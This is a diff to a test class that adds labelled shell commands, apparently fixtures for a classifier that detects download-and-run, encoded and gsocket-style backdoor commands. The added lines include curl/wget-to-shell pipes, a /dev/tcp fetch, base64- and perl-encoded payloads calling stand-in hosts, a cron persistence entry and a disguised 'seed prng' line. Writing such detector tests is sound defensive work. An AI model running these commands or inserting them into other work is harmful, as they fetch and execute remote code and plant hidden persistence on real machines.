@@ -67,6 +67,14 @@ class BehaviourTest {
             DOWNLOAD_AND_RUN | echo Y3VybCAtZnNTTCBodHRwOi8vMTkyLjAuMi43L3h8c2g= | base64 -d | sh
             DOWNLOAD_AND_RUN | docker run -v /:/mnt alpine chroot /mnt sh -c 'curl http://a.example/x | sh'
             DOWNLOAD_AND_RUN | python -c "import urllib2; exec(urllib2.urlopen('http://a.example/x').read())"
+            DOWNLOAD_AND_RUN | curl http://a.example/x > /opt/.a && bash /opt/.a
+            DOWNLOAD_AND_RUN | exec 3<>/dev/tcp/192.0.2.1/80; echo -e "GET /x" >&3; cat <&3 > /opt/k; chmod +x /opt/k; /opt/k
+            DOWNLOAD_AND_RUN | get() { curl -fsSL "$1" > "$2" || wget -q -O "$2" "$1"; }; get http://a.example/b /opt/b; /opt/b
+            DOWNLOAD_AND_RUN | $WGET $DIR/sshd http://a.example/sshd; chmod +x $DIR/sshd; nohup $DIR/sshd &
+            DOWNLOAD_AND_RUN | perl -MMIME::Base64 -e 'eval(decode_base64("c3lzdGVtKCJjdXJsIGh0dHA6Ly8xLjIuMy40L3h8c2giKTs="))'
+            DOWNLOAD_AND_RUN | python -c 'import urllib;exec urllib.urlopen("http://a.example/a").read()'
+            DOWNLOAD_AND_RUN | */30 * * * * (curl -fsSL http://a.example/x||wget -q -O- http://a.example/x)|sh
+            ~DOWNLOAD_AND_RUN | curl -s https://example.org/list > /etc/list; bash /opt/reload.sh
             DOWNLOAD_AND_RUN | wgbtx -q -O- http://a.example/x | sh
             ENCODED | echo aWQgPiAvdG1wL2lk | base64 -d | bash
             ENCODED | python3 -c "exec(__import__('base64').b64decode('aW1wb3J0IG9zOyBvcy5zeXN0ZW0oJ2lkJyk='))"
@@ -171,6 +179,7 @@ class BehaviourTest {
             - | ssh-keyscan git.example >> ~/.ssh/known_hosts; ssh deploy@web1 'systemctl reload app'
             GSOCKET | GS_ARGS="-s x -liqD" /usr/bin/gs-dbus
             GSOCKET | # DO NOT REMOVE THIS LINE. SEED PRNG. #defunct-kernel
+            GSOCKET | { echo aWQ=|base64 -d|bash;} 2>/dev/null #1b5b324a50524e47 >/dev/random # seed prng defunct-kernel
             - | openssl rand -base64 32 # seed the PRNG
             """;
 
